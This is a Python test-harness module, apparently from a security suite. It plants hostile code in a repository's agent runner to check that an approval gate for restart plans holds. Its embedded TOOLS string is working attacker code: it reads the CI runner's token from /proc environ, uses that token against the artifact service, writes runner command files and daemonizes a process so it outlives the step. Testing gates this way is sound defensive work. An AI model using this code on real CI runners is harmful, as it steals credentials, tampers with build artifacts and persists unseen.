"""Agents that obey an attacker: a generated repository whose `agent_runner.py` runs hostile code where a team's runs.

Hostile code is a module, `hostile.py`, with any of `imported()`, `investigate()` and `act()`.  It may use `tools.py`,
which is beside it: what an attacker would bring along to reach the runner, its token and its files.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field
from typing import Any

from support.harness.artifacts import Artifact
from support.harness.engine import Answer, Click, Run
from support.runs import document
from support.world import World

# What an attacker knows of a runner: its files are in the environment of the step's shell, its token in its memory.
TOOLS = '''\
import glob, json, os, subprocess, sys, urllib.request


def variables(process):
    with open(f"/proc/{process}/environ") as file:
        return dict(line.split("=", 1) for line in file.read().split("\\0") if "=" in line)


def runner():
    """The variables by which this step speaks to its runner, as they were when it began."""
    return variables("self")


def write(name, text):
    """Append to a file that the runner reads."""
    with open(runner()["GITHUB_" + name], "a") as file:
        file.write(text)


def artifacts(method, **body):
    """Ask the artifact service with the runner's token; what it refuses is returned, too."""
    own = variables(1)
    url = own["ACTIONS_RESULTS_URL"] + "twirp/github.actions.results.api.v1.ArtifactService/" + method
    headers = {"Authorization": "Bearer " + own["ACTIONS_RUNTIME_TOKEN"], "Content-Type": "application/json"}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, json.dumps(body).encode(), headers)) as answer:
            return json.load(answer)
    except urllib.error.HTTPError as problem:
        return {"refused": problem.code}


def upload(name, archive):
    url = artifacts("CreateArtifact", name=name).get("signed_upload_url")
    if url:
        urllib.request.urlopen(urllib.request.Request(url, archive, method="PUT")).read()
        return artifacts("FinalizeArtifact", name=name)


def leave_behind(work):
    """Let a process continue when this one has ended."""
    if os.fork():
        return
    if os.fork():
        os._exit(0)
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for each in (0, 1, 2):
        os.dup2(null, each)
    try:
        work()
    finally:
        os._exit(0)
'''

_HOOKS = {
    "investigate": (
        "\n    def investigate(self, resource",
        """
    def investigate(self, resource, context=None):
        getattr(hostile, "investigate", lambda: None)()
        return self.honestly_investigate(resource, context)

    def honestly_investigate(self, resource""",
    ),
    "act": (
        "\n    def act(self, resource",
        """
    def act(self, resource, action, context=None):
        getattr(hostile, "act", lambda: None)()
        return self.honestly_act(resource, action, context)

    def honestly_act(self, resource""",
    ),
}


def hijack(world: World, code: str) -> None:
    """Let the repository's agent run this code, and commit it."""
    agent = world.origin / "agent_runner.py"
    text = agent.read_text(encoding="utf-8")
    for where, hook in _HOOKS.values():
        assert text.count(where) == 1
        text = text.replace(where, hook)
    future = "from __future__ import annotations\n"
    load = future + "\nimport hostile\n\ngetattr(hostile, 'imported', lambda: None)()\n"
    assert text.count(future) == 1
    agent.write_text(text.replace(future, load), encoding="utf-8")
    (world.origin / "hostile.py").write_text("from tools import *\n" + textwrap.dedent(code))
    (world.origin / "tools.py").write_text(TOOLS)
    world.commit("Obey the attacker")


@dataclass
class Watching:
    """The reviewer bob, who approves whatever waits, and remembers what he was shown."""

    seen: list[Any] = field(default_factory=list)

    def __call__(self, waiting: Any) -> Answer:
        self.seen.append(waiting)
        return Click("bob")


def by_id(run: Run, id: str) -> Artifact:
    """The artifact of that id.

    Raises:
        KeyError: it is gone.
    """
    return {str(each.id): each for each in run.artifacts.every()}[id]


def assert_the_gate_held(world: World, run: Run, bob: Watching, before: str) -> None:
    """The plan in the waiting job's name and on the page of `seal` is the plan that ran, or nothing ran.

    Arguments:
        before: which life of the service answered before the run.
    """
    reported = run.jobs["seal"].outputs
    if not bob.seen:
        assert world.instance() == before, "nobody was asked, and something was done"
        return
    (waiting,) = bob.seen
    assert waiting.job == f"Approve plan {reported['plan_digest'][:12]}: restart_service on example"
    assert reported["plan_digest"] in run.jobs["seal"].summary
    if world.instance() == before:
        return
    sealed = document(run, "investigation-report", "investigation-report.json")["plan"]
    assert run.artifacts.named("investigation-report").digest == reported["report_digest"]
    assert [step["action"] for step in sealed["steps"]] == ["restart_service"] and sealed["resource"] == "example"
